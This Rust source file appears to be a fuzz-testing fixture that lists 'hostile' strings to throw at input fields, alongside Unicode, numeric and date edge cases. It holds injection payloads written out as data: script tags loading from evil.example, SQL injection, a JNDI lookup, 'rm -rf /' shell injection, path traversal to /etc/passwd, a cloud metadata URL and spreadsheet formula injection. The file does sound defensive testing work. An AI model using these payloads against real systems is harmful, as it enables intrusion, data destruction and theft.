//! What is thrown: strings of our own making, by what they are meant to break.

/// A string and what it is.
#[derive(Debug, Clone)]
pub(crate) struct Hostile {
    /// For whoever reads that it broke something.
    pub(crate) what: String,
    pub(crate) text: String,
}

fn named(what: &str, text: impl Into<String>) -> Hostile {
    Hostile { what: what.to_owned(), text: text.into() }
}

/// One of each kind: every field has some of them even when there is little time.
pub(crate) fn few() -> Vec<Hostile> {
    vec![
        named("NUL", "nul\0nul"),
        named("a header of its own", "Zoe\r\nBcc: thief@evil.example"),
        named("C1 control", "a\u{0085}b\u{009B}31m"),
        named("override", "\u{202E}gpj.exe"),
        named("tags", "Approved\u{E0001}\u{E0070}\u{E0061}\u{E0079}"),
        named("markup", "<script>alert(1)</script><img src=x onerror=alert(1)>"),
        named("template and format", "{{7*7}} {% raw %} ${7*7} %s%n%x {0}"),
        named("query", "x'); DROP TABLE person; -- \" OR 1=1"),
        named("right to left", "עיריית חיפה 3"),
        named("emoji", "Family day 👩\u{200D}👩\u{200D}👧\u{200D}👦 🏳️\u{200D}🌈"),
        named("10 KB", "n".repeat(10_240)),
    ]
}

/// Everything.
pub(crate) fn all() -> Vec<Hostile> {
    let mut out = few();
    out.extend(
        (1..=0x9Fu32)
            .filter(|c| !(0x20..0x7F).contains(c))
            .filter_map(char::from_u32)
            .map(|c| named(&format!("control U+{:04X}", u32::from(c)), format!("before{c}after"))),
    );
    let invisible = "\u{00AD}\u{034F}\u{061C}\u{115F}\u{17B4}\u{180E}\u{200B}\u{200C}\u{200D}\u{200E}\u{200F}\u{2028}\u{2029}\u{202A}\u{202B}\u{202C}\u{202D}\u{2060}\u{2064}\u{2066}\u{2067}\u{2068}\u{2069}\u{206A}\u{3164}\u{FE0F}\u{FEFF}\u{FFA0}\u{FFF9}\u{FFFB}\u{FFFC}\u{FFFD}\u{FFFE}\u{FFFF}\u{FDD0}\u{E000}\u{1D173}\u{E0020}\u{E007F}\u{E0100}\u{10FFFF}";
    out.extend(invisible.chars().map(|c| named(&format!("character U+{:04X}", u32::from(c)), format!("before{c}after"))));
    out.extend([
        // More is never read.
        named("500 KB", "m".repeat(500_000)),
        named("10 KB of one letter's marks", format!("Z{}", "\u{0301}".repeat(5_000))),
        named("a tower", format!("tower{}", "\u{0336}\u{0489}\u{20DD}".repeat(10))),
        named("marks without a letter", "\u{0301}\u{0302}\u{0303}x"),
        named("Hangul in pieces", "\u{1100}\u{1161}\u{11A8} 한글"),
        named("the longest name", "x".repeat(120)),
        named("one more", "x".repeat(121)),
        named("the longest sentence", "y".repeat(300)),
        named("letters of four bytes", "𝔘𝔫𝔦𝔠𝔬𝔡𝔢 ".repeat(8)),
    ]);
    for text in FIELDS.lines().filter(|line| !line.is_empty()) {
        out.push(named(text, text));
    }
    // White space at the ends, where a line of this file would not keep it.
    for text in
        ["\ttab", "  spaces  ", "\u{A0}no-break\u{A0}", "\u{3000}wide\u{3000}", "line\nline", "line\rline", "a\x0Bb\x0Cc", " ", "\u{2003}"]
    {
        out.push(named("white space", text));
    }
    out
}

/// A string a line.
const FIELDS: &str = r#"
"><script src=//evil.example/x.js></script>
'><svg/onload=alert(1)>
</title></style></textarea></script><iframe src=javascript:alert(1)>
<!--><img src=x>-->
<![CDATA[<b>x</b>]]>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
&lt;b&gt; &amp;amp; &#x3C;script&#x3E; &nbsp
<a href="javascript:alert(1)">x</a>
javascript:alert(document.cookie)
data:text/html;base64,PHNjcmlwdD4=
<style>*{background:url(//evil.example)}</style>
<mj-text>x</mj-text></mj-body></mjml>
{{ title }} {{ self.__class__ }} {{ 7*'7' }}
{% include "/etc/passwd" %}{% endraw %}{# x #}
#{7*7} <%= 7*7 %> ${{7*7}} *{7*7} @(7*7) [[${7*7}]]
${jndi:ldap://evil.example/a}
$(touch /tmp/x) `id` ; rm -rf / | cat & %PATH% $HOME
%00 %0d%0aBcc:%20x %2e%2e%2f \x00 \u0000 \r\n
%s%s%s%s%n %d %p {:?} {0} {} {name!r}
' OR '1'='1' --
1; ATTACH DATABASE '/tmp/x' AS y
$1 $$ :name ?1 ?2 @x
' UNION SELECT secret FROM token --
\'; \"; \\; \
../../../../etc/passwd
..\..\windows\win.ini
/etc/passwd
C:\CON
file:///etc/passwd
http://169.254.169.254/latest/meta-data/
regions/kent
regions/northumbria/partnerships/gateshead/../../../regions/kent
//// 
=cmd|' /C calc'!A0
@SUM(1+1)*cmd|' /C calc'!A0
+1-1 -2+3
=HYPERLINK("http://evil.example","x")
a,b;c	d"e"f
"unclosed quote, x
,,,,
# Heading *and* _marks_ [x](y) ![p](http://evil.example/p.png)
* item 1. item > quote ~~~ ``` --- === ***
[link](https://example.org "title") <https://evil.example> https://evil.example
| a | b | - | - |
\*escaped\* \<b\> &#42; a_b_c __x__ **
&copy; &#0; &#xD800; &#x202e; &bogus;
Zoë O’Neill-Smith, MBE (“Chair”)
D'Arcy d’Arcy "Quoted" <angle> (paren) [bracket] : ; @ , .
=?utf-8?B?VMW3?= =?utf-8?Q?a_b?=
undisclosed-recipients:;
a@example.org, b@example.org
"Fake" <fake@example.org>
Bcc: thief@evil.example
.
..
--=_boundary
From someone Sat Jan  1 00:00:00 2022
مجلس المدينة، ٣ تقارير (٢٠٢٢)
דו״ח 12,345 (מס׳ 7) abc
ABC שלום 123 عربي DEF
中文测试 日本語テスト 한국어 시험
ไทย ภาษาไทย हिन्दी தமிழ் မြန်မာ
Ελληνικά Русский Հայերեն ქართული
Ꭰꮿꭽ ᚠᚢᚦ 𓀀𓂀 𝒳𝓎
Gаtеshеаd
ＦＵＬＬ width ①② ½ ﬁ ﷽ Ⅷ
ſ İ ı ß ẞ ΐ Ǆ
👨🏿‍🚀 🇬🇧 1️⃣ ☎️ ❤️‍🔥
( ͡° ͜ʖ ͡°) ¯\_(ツ)_/¯ (╯°□°)╯︵ ┻━┻
‘’“”–—…•·†‡‰‹›€™
null
undefined
NaN
Infinity
true
nil
None
-0
0
-1
1e309
0x7fffffffffffffff
9223372036854775808
-9223372036854775809
99999999999999999999999999999999999999999
0.1e-400
1,000,000.00
１２３
2022-02-30
0000-00-00
9999-12-31
2021-q5
2021-W53
24:00
00000000-0000-0000-0000-000000000000
ffffffffffffffffffffffffffffffff
Europe/London
csp_AAAAAAAAAAAA_AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA
Bearer x
toString
__proto__
constructor
COM1
aux.txt
"#;
